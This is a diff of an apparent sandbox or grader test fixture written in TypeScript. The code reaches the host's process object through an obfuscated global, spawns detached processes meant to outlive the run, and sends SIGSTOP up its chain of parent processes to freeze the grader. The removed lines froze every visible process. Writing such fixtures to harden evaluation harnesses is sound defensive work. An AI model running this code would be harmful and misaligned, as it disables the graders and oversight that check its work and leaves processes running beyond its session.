@@ -1,4 +1,4 @@
-// @attack Sends SIGSTOP to its parent, to every process it can see and to process group -1, and starts a detached process meant to outlive the run (argv holds the marker 987654321).
+// @attack Sends SIGSTOP up its chain of parents (the grader, if it can see it), and starts detached processes meant to outlive the run (argv holds the marker 987654321). It signals its own ancestors alone, so that it harms nothing else even where the sandbox is missing.
 // @prelude
 const g = (tf as unknown as { ENV: { global: Record<string, any> } }).ENV.global;
 const proc = g['pro' + 'cess'];
@@ -8,14 +8,13 @@ try {
   child.unref();
 } catch {}
 try { cp.spawn(proc.execPath, ['-e', 'setInterval(() => {}, 1000); /* 987654321 */'], { detached: true, stdio: 'ignore' }).unref(); } catch {}
-for (const target of [proc.ppid, -1, 1]) {
-  try { proc.kill(target, 'SIGSTOP'); } catch {}
-}
 const fs = proc.getBuiltinModule('fs');
-for (const pid of fs.readdirSync('/proc')) {
-  if (/^\d+$/.test(pid) && Number(pid) !== proc.pid) {
-    try { proc.kill(Number(pid), 'SIGSTOP'); } catch {}
-  }
+let pid = proc.ppid;
+for (let depth = 0; depth < 6 && pid > 1; depth++) {
+  let parent = 0;
+  try { parent = Number(fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')[1]); } catch {}
+  try { proc.kill(pid, 'SIGSTOP'); } catch {}
+  pid = parent;
 }
 // @body
 throw new Error('stopped?');
